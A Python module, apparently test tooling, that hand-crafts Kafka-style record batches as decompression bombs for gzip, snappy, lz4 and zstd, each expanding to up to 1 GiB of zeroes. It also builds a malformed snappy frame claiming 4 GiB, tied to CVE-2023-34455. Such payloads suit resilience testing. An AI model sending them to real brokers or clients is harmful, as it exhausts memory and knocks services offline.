"""Record batches that are small and unfold to much, one for each codec, built by hand: zeroes without end."""

import struct
import sys
import time
import zlib
import pathlib

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent / "lib"))

from crc32c import crc32c  # noqa: E402
from record_batch import varint  # noqa: E402

MEBIBYTE = 1 << 20
GZIP, SNAPPY, LZ4, ZSTD = 1, 2, 3, 4
NAMES = {GZIP: "gzip", SNAPPY: "snappy", LZ4: "lz4", ZSTD: "zstd"}


def record_head(size):
    """What stands before the value of a record without key whose value is `size` zeroes, and its one byte behind it."""
    before = b"\0" + varint(0) + varint(0) + varint(-1) + varint(size)
    return varint(len(before) + size + 1) + before


def gzip_of(head, zeroes):
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    out = packer.compress(head)
    for _ in range(zeroes // MEBIBYTE):
        out += packer.compress(bytes(MEBIBYTE))
    return out + packer.compress(b"\0") + packer.flush()


def zstd_of(head, zeroes):
    """A frame without its size, a raw block for the head and blocks of one repeated byte, four bytes for 128 KiB."""
    def block(kind, size, is_last=0):
        return struct.pack("<I", size << 3 | kind << 1 | is_last)[:3]
    out = bytes.fromhex("28b52ffd0058") + block(0, len(head)) + head  # A window of 2 MiB.
    full = 128 << 10
    out += (block(1, full) + b"\0") * (zeroes // full)
    return out + block(1, 1, is_last=1) + b"\0"


def lz4_of(head, zeroes):
    """A frame of independent blocks of 4 MiB, each a run of zeroes: some 16 KiB."""
    def block(data):
        return struct.pack("<I", len(data)) + data

    def run_of(size):
        # One literal zero, a match of the rest at a distance of 1, and the five literals that must be the last.
        rest = size - 1 - 5 - 4 - 15
        match = b"\x1f\0" + struct.pack("<H", 1) + b"\xff" * (rest // 255) + bytes([rest % 255])
        return match + b"\x50" + bytes(5)

    frame = bytes.fromhex("04224d186070")
    frame += bytes([xxh32(frame[4:6]) >> 8 & 0xFF])
    out = frame + struct.pack("<I", len(head) | 1 << 31) + head
    out += block(run_of(4 * MEBIBYTE)) * (zeroes // (4 * MEBIBYTE))
    return out + struct.pack("<I", 1 | 1 << 31) + b"\0" + bytes(4)


def xxh32(data):
    """Of less than 16 bytes."""
    mask = 0xFFFFFFFF
    value = 374761393 + len(data) & mask
    for byte in data:
        value = value + byte * 374761393 & mask
        value = (value << 11 | value >> 21) & mask
        value = value * 2654435761 & mask
    for shift, factor in ((15, 2246822519), (13, 3266489917)):
        value = (value ^ value >> shift) * factor & mask
    return value ^ value >> 16


def snappy_of(head, zeroes):
    """One raw block: a literal, then copies of 64 bytes from the byte before, three bytes each."""
    def uvarint(value):
        out = b""
        while value > 0x7F:
            out += bytes([value & 0x7F | 0x80])
            value >>= 7
        return out + bytes([value])
    copies = zeroes // 64
    out = uvarint(len(head) + 1 + copies * 64)
    out += bytes([len(head) << 2]) + head + b"\0"
    return out + (bytes([63 << 2 | 2]) + struct.pack("<H", 1)) * copies


def snappy_liar():
    """A block that says it unfolds to 4 GiB, and has nothing behind it (CVE-2023-34455)."""
    framed = bytes.fromhex("82534e41505059000000000100000001")
    return framed + struct.pack(">i", 2**31 - 1) + b"\xff\xff\xff\xff\x0f"


def batch(codec, section, count=1):
    now = int(time.time() * 1000)
    rest = struct.pack(">hiqqqhii", codec, count - 1, now, now, -1, -1, -1, count) + section
    return struct.pack(">qiibI", 0, len(rest) + 9, -1, 2, crc32c(rest)) + rest


def bombs(unfolded=1024 * MEBIBYTE, bytes_max=1_000_000):
    """(codec's name, batch): as much as fits into a batch of `bytes_max`, up to `unfolded`."""
    ratio = {GZIP: 1000, SNAPPY: 21, LZ4: 250, ZSTD: 30_000}
    makers = {GZIP: gzip_of, SNAPPY: snappy_of, LZ4: lz4_of, ZSTD: zstd_of}
    for codec, make in makers.items():
        size = min(unfolded, bytes_max * ratio[codec]) // (4 * MEBIBYTE) * 4 * MEBIBYTE
        yield NAMES[codec], batch(codec, make(record_head(size), size))
    yield "snappy that lies", batch(SNAPPY, snappy_liar())


if __name__ == "__main__":
    for name, data in bombs():
        print(name, len(data))
